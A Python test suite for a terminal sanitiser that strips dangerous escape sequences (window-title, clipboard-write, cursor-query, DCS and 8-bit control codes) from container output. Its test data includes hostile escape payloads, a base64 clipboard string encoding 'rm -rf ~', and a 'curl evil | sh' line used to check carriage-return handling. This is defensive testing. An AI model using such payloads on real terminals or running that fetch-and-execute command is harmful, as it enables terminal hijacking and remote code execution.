"""The terminal sanitiser: what a container prints must not drive the user's terminal."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from launcher.operate.logs import LineSplitter
from launcher.output.termsafe import Sanitizer, resolve_cr, sanitize

ESC = "\x1b"

# What a hostile trainer prints, and what must be left of it.
HOSTILE = [
    ("title\x1b]0;pwned\x07 after", "title after"),  # OSC 0 (window title), BEL-terminated
    ("clip\x1b]52;c;cm0gLXJmIH4=\x1b\\ after", "clip after"),  # OSC 52 (clipboard), ST
    ("query\x1b[6n after", "query after"),  # CSI 6n (cursor position report)
    ("dcs\x1bP+q544e\x1b\\ after", "dcs after"),  # DCS (XTGETTCAP)
    ("sos\x1bXhidden\x1b\\ pm\x1b^hidden\x1b\\ apc\x1b_hidden\x1b\\ end", "sos pm apc end"),
    ("c1 csi\x9b6n after", "c1 csi after"),  # 8-bit CSI
    ("c1 osc\x9d0;pwned\x9c after", "c1 osc after"),  # 8-bit OSC and ST
    ("c1 dcs\x90q\x9c after", "c1 dcs after"),
    ("keys\x1b[?1h\x1b=\x1b(0\x1b#8\x1bc after", "keys after"),  # modes, charsets, reset
    ("bell\x07 bs\x08 vt\x0b ff\x0c so\x0e del\x7f nul\x00 end", "bell bs vt ff so del nul end"),
    ("c1 \x84\x85\x8d\x8e\x8f\x9a end", "c1  end"),
    ("tab\tkept", "tab\tkept"),
    ("clear\x1b[2J\x1b[H\x1b[3J screen", "clear screen"),
    ("cut\x1b[31\nnext", "cut\nnext"),  # a control cuts a CSI short and is read as text
    ("unterminated\x1b]0;title\nnext line", "unterminated\nnext line"),
    ("can\x1b]0;x\x18 shown", "can shown"),  # CAN aborts a string
    ("esc in string\x1b]0;x\x1b[6n shown", "esc in string shown"),
    ("esc esc\x1b\x1b[6n shown", "esc esc shown"),
    ("hyperlink \x1b]8;;https://evil\x1b\\text\x1b]8;;\x1b\\", "hyperlink text"),
    ("überall ✓ 日本", "überall ✓ 日本"),
]


@pytest.mark.parametrize(("raw", "shown"), HOSTILE)
def test_dangerous_sequences_are_dropped(raw: str, shown: str) -> None:
    assert sanitize(raw) == shown


def test_sgr_colours_are_kept_unless_asked() -> None:
    text = "\x1b[1;31mred\x1b[0m \x1b[38;5;208morange\x1b[m \x1b[38:2::1:2:3mtrue\x1b[0m"
    assert sanitize(text) == text
    assert sanitize(text, keep_sgr=False) == "red orange true"
    # 8-bit CSI colours come out in 7-bit form; CSI that only looks like SGR is dropped.
    assert sanitize("\x9b32mgreen") == "\x1b[32mgreen"
    assert sanitize("\x1b[?31m\x1b[31 m\x1b[>4;2mplain") == "plain"


def test_carriage_returns_show_what_a_terminal_shows() -> None:
    assert sanitize("progress 10%\rprogress 100%") == "progress 100%"
    # What is printed is what the terminal shows: no text hidden under a later one.
    assert sanitize("curl evil | sh\rls -l") == "ls -levil | sh"
    assert sanitize("crlf line\r\nnext\r\n") == "crlf line\nnext\n"
    assert sanitize("\x1b[31mred 50%\r\x1b[32mgreen") == "green0%"
    assert resolve_cr("abc\r") == "abc"
    assert resolve_cr("abcdef\rXY\rZ") == "ZYcdef"


def test_the_result_is_safe_and_idempotent() -> None:
    for raw, _ in HOSTILE:
        clean = sanitize(raw)
        assert_safe(clean)
        assert sanitize(clean) == clean


SGR = re.compile(r"\x1b\[[0-9;:]*m")


def assert_safe(text: str) -> None:
    without_sgr = SGR.sub("", text)
    bad = [c for c in without_sgr if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"{bad!r} left in {text!r}"


# Text rich in the characters that matter, so that random examples hit the sequences.
NASTY = st.text(
    st.sampled_from(
        [
            *[ESC, "[", "]", "P", "X", "^", "_", "\\", "\x07", "\x9b", "\x9c", "\x9d", "\x90"],
            *["\x18", "\r", "\n", "\t", "\x00", "\x7f", "0", "1", ";", ":", "?", "m", "n", "a"],
            *[" ", "é"],
        ]
    ),
    max_size=60,
)


@settings(max_examples=400, deadline=None)
@given(NASTY)
def test_random_text_comes_out_safe(text: str) -> None:
    clean = sanitize(text)
    assert_safe(clean)
    assert sanitize(clean) == clean
    assert_safe(sanitize(text, keep_sgr=False).replace(ESC, "\x00"))


@settings(max_examples=300, deadline=None)
@given(NASTY, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
def test_split_anywhere_gives_the_same_result(text: str, cuts: list[int]) -> None:
    """A sequence cut between two chunks of a stream is finished with the next one."""
    whole = Sanitizer(keep_cr=True)
    expected = whole.feed(text) + whole.flush()
    pieces = Sanitizer(keep_cr=True)
    bounds = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
    got = "".join(pieces.feed(text[a:b]) for a, b in itertools.pairwise(bounds))
    assert got + pieces.flush() == expected


def test_sequences_split_one_character_at_a_time() -> None:
    raw = "".join(raw for raw, _ in HOSTILE[:9])
    stream = Sanitizer()
    got = "".join(stream.feed(char) for char in raw) + stream.flush()
    assert got == sanitize(raw)
    assert ESC not in got


def test_line_splitter_sanitises_a_byte_stream_split_mid_sequence() -> None:
    """`logs -f` gets the log in arbitrary chunks: UTF-8 and escapes cut at any byte."""
    data = (
        "step 1 \x1b]0;pwned\x07ok ✓\r\n"
        "\x1b]52;c;Zm9v\x1b\\clip\x1b[6n\r\n"
        "10%\r100%\nbye \x9b6n\x1bP1$r\x1b\\"  # U+009B: 8-bit CSI, two bytes in UTF-8
    ).encode()
    for size in (1, 2, 3, 5, 7):
        lines: list[str] = []
        splitter = LineSplitter(lines.append)
        for start in range(0, len(data), size):
            splitter.feed(data[start : start + size])
        splitter.flush()
        assert lines == ["step 1 ok ✓", "clip", "100%", "bye "], size


def test_line_splitter_keeps_a_redrawn_progress_bar_short() -> None:
    lines: list[str] = []
    splitter = LineSplitter(lines.append)
    for percent in range(100_000):
        splitter.feed(f"\r{percent % 100:3d}%".encode())
    assert len(splitter._partial) < 10
    splitter.feed(b"\n")
    assert lines == [" 99%"]
